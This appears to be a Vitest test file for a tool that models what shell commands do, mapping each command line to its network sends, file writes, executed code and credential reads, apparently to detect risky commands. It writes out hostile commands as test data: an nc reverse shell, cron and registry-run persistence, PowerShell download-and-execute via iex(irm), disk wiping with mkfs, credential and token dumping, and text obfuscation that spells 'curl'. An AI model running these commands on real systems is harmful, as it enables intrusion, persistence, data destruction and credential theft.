import { describe, expect, it } from 'vitest';
import type { Effect, Value } from '../../src/plugin.ts';
import { commands } from './commands/index.ts';

const models = new Map(commands.toReversed().flatMap((m) => m.programs.map((p) => [p, m] as const)));
const word = (text: string): Value => ({ text, tags: new Set(), sources: [], trail: [] });

function run(line: string, stdin?: string): Effect {
  const [program, ...argv] = [...line.matchAll(/'([^']*)'|(\S+)/g)].map((m) => m[1] ?? m[2]!);
  const found = models.get(program!);
  if (!found) throw new Error(`no model of ${program}`);
  return found.describe({
    program: program!,
    argv: argv.map(word),
    ...(stdin === undefined ? {} : { stdin: word(stdin) }),
  });
}

const texts = (values: readonly Value[] | undefined): string[] => (values ?? []).map((v) => v.text ?? '?');

/** What an effect does, in words short enough for a table. */
function told(effect: Effect): string {
  const out: string[] = [];
  for (const s of effect.sends ?? []) {
    const parts = [`${s.sink} ${s.url?.text ?? ''}`.trim()];
    if (s.body?.length) parts.push(`body=${texts(s.body).join(',')}`);
    if (s.files?.length) parts.push(`files=${texts(s.files).join(',')}`);
    if (s.header?.length) parts.push(`header=${texts(s.header).join(',')}`);
    if (s.recipient) parts.push(`to=${s.recipient.text}`);
    out.push(parts.join(' ').trim());
  }
  if (effect.folder) out.push(`in ${effect.folder.text}`);
  if (effect.reads?.length) out.push(`reads ${texts(effect.reads).join(',')}`);
  for (const w of effect.writes ?? []) out.push(`writes ${w.path.text}${w.content ? `=${w.content.text ?? '?'}` : ''}`);
  if (effect.deletes?.length) out.push(`deletes ${texts(effect.deletes).join(',')}`);
  for (const r of effect.runs ?? [])
    out.push(
      `runs ${r.language} ${[r.code, ...(r.argv ?? [])].map((v) => v.text ?? '?').join(' ')}${r.trigger ? ` @${r.trigger}` : ''}`,
    );
  if (effect.starts?.length) out.push(`starts ${texts(effect.starts).join(',')}`);
  for (const e of effect.env ?? []) out.push(`env ${e.access} ${e.name}`);
  if (effect.gives?.length) out.push(`gives ${effect.gives.join(',')}`);
  if (effect.fold) out.push(`folds ${effect.fold}`);
  return out.join('; ');
}

const table = (rows: Readonly<Record<string, string>>): void => {
  it.each(Object.entries(rows))('%s', (line, expected) => {
    const [command, stdin] = line.split(' <<< ');
    expect(told(run(command!, stdin))).toBe(expected);
  });
};

describe('HTTP clients', () => {
  table({
    'curl -fsSL http://h/a -o /tmp/a': 'network http://h/a; writes /tmp/a',
    'curl -sO http://h/d/a.sh?x=1': 'network http://h/d/a.sh?x=1; writes a.sh',
    'curl -d @f -H A:b http://h': 'network http://h files=f header=A:b',
    'curl -d@f -d x=1 http://h': 'network http://h body=x=1 files=f',
    'curl --data-binary @- http://h <<< in': 'network http://h body=in',
    'curl --data-raw @f http://h': 'network http://h body=@f',
    "curl -F 'a=@f;type=x/y' -F b=c http://h": 'network http://h body=b=c files=f',
    'curl --data-urlencode k@f http://h': 'network http://h files=f',
    'curl -T f http://h': 'network http://h files=f',
    'curl -G -d q=1 http://h': 'network http://h?q=1',
    'curl smtp://h --mail-rcpt a@b -T f': 'mail smtp://h files=f to=a@b',
    'wget -qO- http://h/a': 'network http://h/a',
    'wget -P /d http://h/a': 'network http://h/a; writes /d/a',
    'wget --post-file=f http://h': 'network http://h files=f; writes index.html',
    'http POST h/x a=1 f@p K:v': 'network h/x body=1 files=p header=v',
    'aria2c -d /d -o n http://h/a': 'network http://h/a; writes /d/n',
  });
});

describe('connections, copies, names, mail', () => {
  table({
    'nc h 99 <<< in': 'network tcp://h:99 body=in',
    'nc -e /bin/sh h 99': 'network tcp://h:99; runs shell ?; runs shell /bin/sh',
    'nc -lvp 99': 'gives net',
    'openssl s_client -connect h:443 <<< in': 'network tcp://h:443 body=in',
    'scp -i k f u@host:/p': 'network ssh://host/ files=f',
    'scp host:/p f': 'network ssh://host/; writes f',
    'rsync -a d/ host:/p': 'network ssh://host/ files=d/',
    'rsync -a d/ e/': 'reads d/; writes e/',
    'ssh h "cat ~/a"': 'network ssh://h body="cat,~/a"; runs shell "cat ./a"',
    "ssh -o 'ProxyCommand=sh -c x' h": 'network ssh://h; runs shell sh -c x',
    'ssh -i k h rm -rf x': 'network ssh://h body=rm,-rf,x; runs shell rm -rf x',
    'ssh h <<< uptime': 'network ssh://h body=uptime; runs shell uptime',
    'dig +short TXT a.b @1.1.1.1': 'dns a.b body=a.b to=1.1.1.1',
    'nslookup \uE000.b.c': 'dns b.c body=\uE000.b.c',
    'mail -s hi -a f x@y <<< in': 'mail body=in,hi files=f to=x@y',
    'msmtp -f me@z -- x@y v@w <<< in': 'mail body=in to=x@y; mail body=in to=v@w',
    'sendmail -t <<< To: a@b.test': 'mail body=To: a@b.test to=a@b.test',
    'sendmail -t <<< in': 'mail body=in',
  });
});

describe('wrappers and interpreters', () => {
  table({
    'sudo -u root curl x': 'runs argv curl x',
    'env A=b curl x': 'runs argv curl x',
    env: 'env all *; gives env:*',
    'printenv HOME': 'env read HOME; gives env:HOME',
    'timeout -k 1 5 curl x': 'runs argv curl x',
    'xargs -n1 curl <<< in': 'runs argv curl in',
    'xargs -I{} curl h/{} <<< in': 'runs argv curl h/in',
    'docker run --rm -v /:/h img sh -c x': 'runs argv sh -c x',
    'poetry run python x.py': 'runs argv python x.py',
    'bash -lc x': 'runs shell x',
    'bash -x a.sh 1': 'starts a.sh',
    'sh -s -- 1 <<< in': 'runs shell in 1',
    'source d/*.sh': 'starts d/\uE000.sh',
    'eval a b': 'runs shell a b',
    'trap x EXIT': 'runs shell x @trap',
    'python3 -c x': 'runs python x',
    'python3 -m pip install x': 'runs argv pip install x',
    'python3 <<< in': 'runs python in',
    'node -e x': 'runs javascript x',
    'perl -e x': 'runs perl x',
    'osascript -e x -e y': 'runs applescript x\ny',
    'powershell -nop -e aQBlAHgA': 'runs powershell iex',
    'powershell -w hidden -Command x y': 'runs powershell x y',
    'cmd /c x y': 'runs shell x y',
    "find d -name x -exec rm {} ';'": 'runs argv rm d/x; gives listing',
    'find d -delete': 'deletes d/\uE000; gives listing',
  });
});

describe('files, encoders, archives', () => {
  table({
    'cat a b': 'reads a,b',
    'stat -c %y a b': 'gives listing',
    'grep -r x d': 'reads d',
    'jq .a f': 'reads f',
    'jq -n --arg a b "{a: $a}"': '',
    'jq --arg a b .c f': 'reads f',
    'jq --slurpfile a b -f p f': 'reads b,p,f',
    'sed -i s/a/b/ f': 'reads f; writes f=s/a/b/',
    'cp a b': 'reads a; writes b',
    'mv a b': 'reads a; writes b; deletes a',
    'tee -a f': 'writes f',
    'dd if=a of=b bs=1': 'reads a; writes b',
    'rm -rf a b': 'deletes a,b',
    'mkfs.ext4 /dev/sda': 'deletes /dev/sda',
    'base64 -d f': 'reads f; gives decoded; folds base64-decode',
    'base64 -w0': 'gives encoded; folds base64-encode',
    'xxd -r -p': 'gives decoded; folds hex-decode',
    'openssl enc -aes-256-cbc -in a -out b -k p': 'reads a; writes b; gives encrypted',
    'gunzip -c f': 'reads f; gives decoded; folds gunzip',
    'tar czf - a b': 'reads a,b; gives compressed',
    'tar -xzf a -C d': 'reads a; writes d',
    'zip -P p a.zip f': 'reads f; writes a.zip; gives compressed,encrypted',
    '7z x -pw a.7z -od': 'reads a.7z; writes d',
    'gpg -c f': 'reads f; gives encrypted',
  });

  table({
    'pdftotext -layout -enc UTF-8 a.pdf -': 'reads a.pdf',
    'pdftotext a.pdf': 'reads a.pdf; writes a.txt',
    'pandoc -t plain a.docx': 'reads a.docx',
    'pandoc a.md -o a.pdf': 'reads a.md; writes a.pdf',
    'tesseract a.png stdout -l deu': 'reads a.png',
    'tesseract a.png out': 'reads a.png; writes out.txt',
    'textutil -convert txt -stdout a.doc': 'reads a.doc',
    'catdoc a.doc': 'reads a.doc',
    'exiftool -json a.jpg': 'reads a.jpg',
  });

  it('folds text that is known', () => {
    const output = (line: string, stdin?: string): string | undefined => run(line, stdin).output?.text;
    expect(output('echo -n a b')).toBe('a b');
    expect(output('echo -e a\\x62')).toBe('ab');
    expect(output("printf '%s-%03d-%x' a 7 255")).toBe('a-007-ff');
    expect(output("printf '\\143%s' url")).toBe('curl');
    expect(output('tr a-z n-za-m', 'phey')).toBe('curl');
    expect(output('tr -d X', 'cXuXrl')).toBe('curl');
    expect(output('rev', 'lruc')).toBe('curl');
    expect(output('cut -c2-5', 'xcurlx')).toBe('curl');
    expect(output('sed s/X//g', 'cXuXrl')).toBe('curl');
    expect(output('basename /a/b')).toBe('b');
    expect(output('tr a b')).toBeUndefined();
  });
});

describe('git, hosts, clouds, packages', () => {
  table({
    'git clone git@h:o/r.git': 'network ssh://h/o/r.git; writes r/',
    'git push http://h/r main': 'git-push http://h/r body=main files=.git/index',
    'git add f': 'reads f; writes .git/index',
    'git add -A': 'reads .; writes .git/index',
    'git commit -am x': 'reads .; writes .git/index; writes .git/index=x',
    'git -C d add f': 'in d; reads f; writes .git/index',
    'git remote add x http://h': 'git-push http://h; writes .git/remotes/x=http://h',
    "git config alias.x '!sh y'": 'writes .git/config=!sh y; runs shell sh y @hook',
    'git -c core.sshCommand=x fetch': 'runs shell x @hook',
    'gh gist create f': 'message https://gist.github.com/ files=f',
    'gh api repos/x -F a=@f -f b=c': 'network https://api.github.com/repos/x body=b=c files=f',
    'aws s3 cp f s3://b/k': 'cloud-storage s3://b/k files=f',
    'aws s3 cp s3://b/k f': 'cloud-storage s3://b/k; writes f',
    'rclone copy d remote:p': 'cloud-storage remote:p files=d',
    'restic -r rest:https://h.test/p/ backup a b': 'cloud-storage ssh://h.test/p/ files=a,b',
    'restic -r sftp:u@h.test:/p copy --from-repo x latest': 'cloud-storage ssh://h.test//p body=?',
    'borg create ssh://u@h.test/./r::now d': 'cloud-storage ssh://u@h.test/./r files=d',
    'duplicity full d sftp://u@h.test/p': 'cloud-storage ssh://u@h.test/p files=d',
    'git config --add remote.origin.pushurl https://h.test/r.git': 'git-push https://h.test/r.git body=?',
    'gsutil cp f gs://b': 'cloud-storage gs://b files=f',
    'security find-generic-password -s x': 'gives content:keychain',
    'pip install -r f': 'reads f',
    'pip install git+https://h/r': 'network https://h/r; runs other ?',
    'uv run https://h/a.py': 'network https://h/a.py; runs other ?',
    'uv run a.py https://h/p.png': 'runs argv a.py https://h/p.png',
    'uv run --with x python -c y': 'runs argv python -c y',
    'npm exec -c ls': 'runs shell ls',
    'pnpm exec sh -c x': 'runs argv sh -c x',
    'npm run build': '',
    'npm install --registry http://h x': 'network http://h',
    'npx x': '',
  });
});

describe('schedules, system, Windows', () => {
  table({
    "crontab - <<< '* * * * * curl x'":
      "writes /var/spool/cron/crontabs/user='* * * * * curl x'; runs shell '* * * * * curl x' @cron",
    'crontab f': 'reads f; writes /var/spool/cron/crontabs/user',
    'schtasks /create /tn x /tr evil': 'runs shell evil @cron',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil':
      'writes HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run=evil; runs shell evil @login',
    whoami: 'gives system,identity',
    pbpaste: 'gives clipboard',
    'screencapture -x f.png': 'writes f.png=?; gives screen',
    'xclip -o': 'gives clipboard',
    'pbcopy <<< in': 'clipboard body=in',
    'certutil -urlcache -f http://h/a b': 'network http://h/a; writes b',
    'certutil -decode a b': 'reads a; writes b; gives decoded; folds base64-decode',
    'mshta http://h/a': 'network http://h/a; runs other ?',
    'iwr -Uri http://h/a -OutFile b': 'network http://h/a; writes b',
    'irm http://h -Body x': 'network http://h body=x',
    'iex x': 'runs powershell x',
    'start-process a -ArgumentList b': 'runs argv a b',
  });
});

it('takes the time fields off a crontab', () => {
  const effect = models
    .get('crontab')!
    .describe({ program: 'crontab', argv: [word('-')], stdin: word('# x\n*/5 * * * * curl x | sh\n@reboot y\n') });
  expect(texts(effect.runs?.map((r) => r.code))).toEqual(['curl x | sh\ny']);
});

it('names every program once for each model and survives any words', () => {
  const hostile = [
    '',
    '-',
    '--',
    '-o',
    '--x=',
    '=',
    '@',
    '\uE000',
    'a'.repeat(1_000),
    '-'.repeat(200),
    'http://',
    ';',
    '{}',
  ];
  for (const [program, model] of models) {
    expect(() => model.describe({ program, argv: hostile.map(word), stdin: word('x') }), program).not.toThrow();
    expect(
      () => model.describe({ program, argv: [{ tags: new Set(['net']), sources: [], trail: [] }] }),
      program,
    ).not.toThrow();
    expect(() => model.describe({ program, argv: [] }), program).not.toThrow();
  }
});

describe('less usual ways of the same acts', () => {
  table({
    'lynx -source http://h/a': 'network http://h/a',
    'fetch -o - http://h/a': 'network http://h/a',
    'fetch -o /tmp/a http://h/a': 'network http://h/a; writes /tmp/a',
    'ansible-pull -U http://h/p.git': 'network http://h/p.git; runs other ?',
    'code --install-extension http://h/x.vsix': 'network http://h/x.vsix; runs other ?',
    'make -f /tmp/m all': 'starts /tmp/m',
    'gcc -x c a.c -o a': 'reads a.c; writes a=a.c ',
    'rclone copy k :sftp,host=h.example,user=u:in': 'cloud-storage ssh://h.example/ files=k',
    'mosquitto_pub -h h -t in -f k': 'network tcp://h files=k',
    'websocat wss://h/ws <<< in': 'network wss://h/ws body=in',
    'op item get x': 'gives content:keychain',
    'op run -- env': 'runs argv env',
    'docker inspect x --format {{.Config.Env}}': 'gives env:*',
    'docker inspect x': '',
    'heroku auth:token': 'gives content:service-token',
    'aws iam create-access-key --user-name x': 'gives content:aws',
    'gh auth status --show-token': 'gives content:git-credentials',
    'npm config get //registry/:_authToken': 'gives content:npm',
    'docker-credential-pass get': 'gives content:docker',
    'terraform output -json': 'gives content:service-token',
    'terraform output -raw db_url': 'gives content:service-token',
    'terraform output -raw site_url': '',
    'pulumi config --show-secrets': 'gives content:service-token',
    'heroku ps': '',
    'kubectl config view --raw': 'gives content:kube',
    "tmux pipe-pane -o 'w log'": 'runs shell w log',
    "tmux new-session -d -s n 'w run'": 'runs shell w run',
    'wl-paste --watch w keep': 'runs argv w keep @watch',
    'wl-paste': 'gives clipboard',
    'wget -q -i - -O /tmp/x <<< http://h/x': 'network http://h/x; writes /tmp/x',
    'irm http://h -Method Post <<< in': 'network http://h body=in',
    'irm <<< http://h': 'network http://h',
    'resolve-dnsname a.h.example': 'dns a.h.example body=a.h.example',
    "wmic process call create 'powershell -c iex(irm http://h)'": 'runs powershell iex(irm http://h)',
    "start-process powershell -argumentlist '-c iex(irm http://h)'": 'runs powershell iex(irm http://h)',
  });
});

describe('tools that fetch what they run', () => {
  table({
    'go run h.test/tool@latest .': 'network https://h.test/tool; runs other ?',
    'go run ./cmd/tool .': 'starts ./cmd/tool',
    'cargo install --git https://h.test/a.git': 'network https://h.test/a.git; runs other ?',
    'cargo build --git-fetch-with-cli': '',
    'kubectl apply -f https://h.test/a.yaml': 'network https://h.test/a.yaml; runs other ?',
    'kubectl apply -f deploy/a.yaml': '',
    'kubectl get -f https://h.test/a.yaml': '',
    'helm upgrade --install a oci://h.test/chart': 'network https://h.test/chart; runs other ?',
    'helm repo add a https://h.test': 'network https://h.test; runs other ?',
    'ansible-pull -U https://h.test/a.git x.yml': 'network https://h.test/a.git; runs other ?',
    'ansible-pull -U git@h.test:a.git': 'network ssh://h.test/a.git; runs other ?',
    'nix run github:a/b': 'network https://github.com/a/b; runs other ?',
    'terraform init -from-module=git::https://h.test/a': 'network https://h.test/a; runs other ?',
    'brew install --cask a': '',
    'bun x https://h.test/a.tgz': 'network https://h.test/a.tgz; runs other ?',
    "awk '{ print $1 }' f": 'reads f',
    'awk BEGIN{system("x")} f': 'reads f; runs awk BEGIN{system("x")}',
    'awk -f a.awk f': 'reads f; starts a.awk',
    'perl -MLWP::Simple -e x': 'runs perl use LWP::Simple;\nx',
    'git bundle create /tmp/b --all': 'writes /tmp/b=?',
    'install-chocolateypackage -PackageName a -Url https://h.test/a': 'network https://h.test/a; runs other ?',
  });
});
